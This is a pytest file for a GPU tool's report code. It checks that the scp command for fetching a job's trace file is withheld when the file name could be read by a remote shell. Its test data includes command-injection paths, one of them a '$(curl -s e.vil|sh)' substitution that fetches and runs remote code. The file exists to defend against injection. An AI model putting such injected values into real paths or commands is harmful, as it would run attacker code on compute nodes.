"""The command a report gives to fetch a job's trace file: the job writes the file's name, so no shell may run it."""

from __future__ import annotations

import pytest

from gpulens.report.document import _copy
from gpulens.usage import JobRecord

SLURM = JobRecord("slurm", "81234", 0.0, 60.0)


def test_a_plain_path_gets_an_scp_command():
    line = _copy({"path": "/tmp/gpulens-traces/t-1.json.gz", "node": "gpu-7"}, SLURM)
    assert line == "  it is on gpu-7: scp gpu-7:/tmp/gpulens-traces/t-1.json.gz t-1.json.gz"


@pytest.mark.parametrize("path", ["/tmp/t$(curl -s e.vil|sh).json.gz", "/tmp/a b.json", "/tmp/t`id`.json", "/tmp/t;x"])
def test_a_path_a_remote_shell_would_read_gets_no_command(path):
    """scp's legacy protocol (OpenSSH before 9.0, `scp -O`) hands the remote path to the node's shell."""
    line = _copy({"path": path, "node": "gpu-7"}, SLURM)
    assert "scp" not in line and "copy it by hand" in line and path in line
